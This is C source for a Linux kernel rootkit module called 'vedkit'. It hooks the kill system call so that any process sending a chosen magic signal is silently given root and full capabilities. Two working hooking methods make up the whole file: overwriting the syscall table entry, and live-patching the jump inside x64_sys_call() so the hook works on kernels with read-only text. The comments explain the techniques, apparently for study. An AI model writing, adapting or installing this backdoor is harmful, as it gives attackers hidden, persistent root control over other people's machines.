// SPDX-License-Identifier: GPL-2.0
/*
 * Syscall hooks on kill(2), Diamorphine-style: kill(any pid, magic_sig) turns
 * the caller into root; every other kill() goes to the real handler.
 *
 * sct: the classic way, replacing sys_call_table[__NR_kill].  Since the
 * branch-history-injection fix (6.9, backported to 6.1.x) the kernel no
 * longer calls through the table: do_syscall_64() calls x64_sys_call(), a
 * switch with a direct call or jump to each __x64_sys_*().  The table is
 * still there (and still read by some tools), so the patch "succeeds" but
 * is inert.  The sct_kill parameter shows the live table entry.
 *
 * dispatch: what rootkits do instead on such kernels: find the jmp/call
 * rel32 to __x64_sys_kill inside x64_sys_call() and retarget it to our
 * handler, with the kernel's own live-patching primitive (text_poke_bp(),
 * under text_mutex), because kernel text is read-only (STRICT_KERNEL_RWX).
 */
#define pr_fmt(fmt) "vedkit: " fmt

#include <linux/atomic.h>
#include <linux/cred.h>
#include <linux/kernel.h>
#include <linux/mutex.h>
#include <linux/pid.h>
#include <linux/sched.h>
#include <linux/string.h>
#include <asm/ptrace.h>
#include <asm/unistd.h>

#include "vedkit.h"

typedef long (*vk_syscall_t)(const struct pt_regs *regs);

/* Make the current task root, with every capability. */
static void vk_give_root(void)
{
	struct cred *new = prepare_creds();

	if (!new)
		return;
	new->uid = GLOBAL_ROOT_UID;
	new->euid = GLOBAL_ROOT_UID;
	new->suid = GLOBAL_ROOT_UID;
	new->fsuid = GLOBAL_ROOT_UID;
	new->gid = GLOBAL_ROOT_GID;
	new->egid = GLOBAL_ROOT_GID;
	new->sgid = GLOBAL_ROOT_GID;
	new->fsgid = GLOBAL_ROOT_GID;
	new->cap_inheritable = CAP_FULL_SET;
	new->cap_permitted = CAP_FULL_SET;
	new->cap_effective = CAP_FULL_SET;
	new->cap_bset = CAP_FULL_SET;
	commit_creds(new);
}

long vk_kill_common(const struct pt_regs *regs, vk_syscall_t orig, atomic_t *hits)
{
	atomic_inc(hits);
	/* kill(pid, sig): pid in rdi, sig in rsi of the user's registers. */
	if ((int)regs->si == vk_magic_sig) {
		pr_info("magic signal from pid %d (uid %u): root granted\n",
			task_pid_nr(current), from_kuid(&init_user_ns, current_uid()));
		vk_give_root();
		return 0;
	}
	return orig(regs);
}

/* --- sct: sys_call_table[__NR_kill] --- */

static void **vk_sct;
static vk_syscall_t vk_sct_orig;
static atomic_t vk_sct_hits = ATOMIC_INIT(0);

static long vk_sct_kill(const struct pt_regs *regs)
{
	return vk_kill_common(regs, vk_sct_orig, &vk_sct_hits);
}

void *vk_sct_kill_entry(void)
{
	void **table = (void **)vk_lookup("sys_call_table");

	return table ? READ_ONCE(table[__NR_kill]) : NULL;
}

int vk_sct_init(void)
{
	int ret;

	vk_sct = (void **)vk_lookup("sys_call_table");
	if (!vk_sct)
		return -ENOENT;
	vk_sct_orig = READ_ONCE(vk_sct[__NR_kill]);
	ret = vk_write_ro_ptr(&vk_sct[__NR_kill], vk_sct_kill);
	if (ret)
		return ret;
	pr_info("sys_call_table[%d] at %px: %ps -> %ps\n", __NR_kill,
		&vk_sct[__NR_kill], vk_sct_orig, READ_ONCE(vk_sct[__NR_kill]));
	return 0;
}

void vk_sct_exit(void)
{
	vk_write_ro_ptr(&vk_sct[__NR_kill], vk_sct_orig);
	pr_info("sys_call_table hook called %d times\n", atomic_read(&vk_sct_hits));
}

/* --- dispatch: the jump to __x64_sys_kill inside x64_sys_call() --- */

typedef int (*vk_size_offset_t)(unsigned long addr, unsigned long *size,
				unsigned long *offset);

static u8 *vk_site;
static u8 vk_site_orig[VK_INSN_LEN];
static vk_syscall_t vk_dispatch_orig;
static atomic_t vk_dispatch_hits = ATOMIC_INIT(0);

static long vk_dispatch_kill(const struct pt_regs *regs)
{
	return vk_kill_common(regs, vk_dispatch_orig, &vk_dispatch_hits);
}

void *vk_dispatch_kill_target(void)
{
	return vk_site ? vk_rel32_target(vk_site) : NULL;
}

int vk_dispatch_init(void)
{
	u8 *fn = (u8 *)vk_lookup("x64_sys_call");
	u8 *target = (u8 *)vk_lookup("__x64_sys_kill");
	vk_size_offset_t size_offset =
		(vk_size_offset_t)vk_lookup("kallsyms_lookup_size_offset");
	unsigned long size = 0, off, i;
	u8 insn[VK_INSN_LEN];
	u8 *site = NULL;
	int found = 0, ret;

	if (!fn || !target || !size_offset)
		return -ENOENT;
	if (!size_offset((unsigned long)fn, &size, &off) || !size)
		return -ENOENT;
	/*
	 * A byte scan, not a decoder: a stray e8/e9 byte whose rel32 lands
	 * exactly on __x64_sys_kill is very unlikely, and a second match makes
	 * us refuse rather than guess.
	 */
	for (i = 0; i + VK_INSN_LEN <= size; i++) {
		if ((fn[i] == VK_JMP32 || fn[i] == VK_CALL32) &&
		    vk_rel32_target(fn + i) == target) {
			site = fn + i;
			found++;
		}
	}
	if (found != 1) {
		pr_err("x64_sys_call (%lu bytes): %d jumps to __x64_sys_kill, need exactly 1\n",
		       size, found);
		return -ENOENT;
	}
	/* the same kind of instruction (call or jmp), to vedkit */
	ret = vk_rel32_insn(insn, site[0], site, (unsigned long)vk_dispatch_kill);
	if (ret)
		return ret;
	vk_site = site;
	vk_dispatch_orig = (vk_syscall_t)target;
	memcpy(vk_site_orig, site, VK_INSN_LEN);
	ret = vk_poke(vk_site, insn, NULL);
	if (ret) {
		vk_site = NULL;
		return ret;
	}
	pr_info("x64_sys_call+%#lx: %s %ps -> %ps\n", (unsigned long)(site - fn),
		site[0] == VK_JMP32 ? "jmp" : "call", target,
		vk_rel32_target(site));
	return 0;
}

void vk_dispatch_exit(void)
{
	if (!vk_site)
		return;
	vk_poke(vk_site, vk_site_orig, NULL);
	vk_site = NULL;
	pr_info("x64_sys_call hook called %d times\n", atomic_read(&vk_dispatch_hits));
}
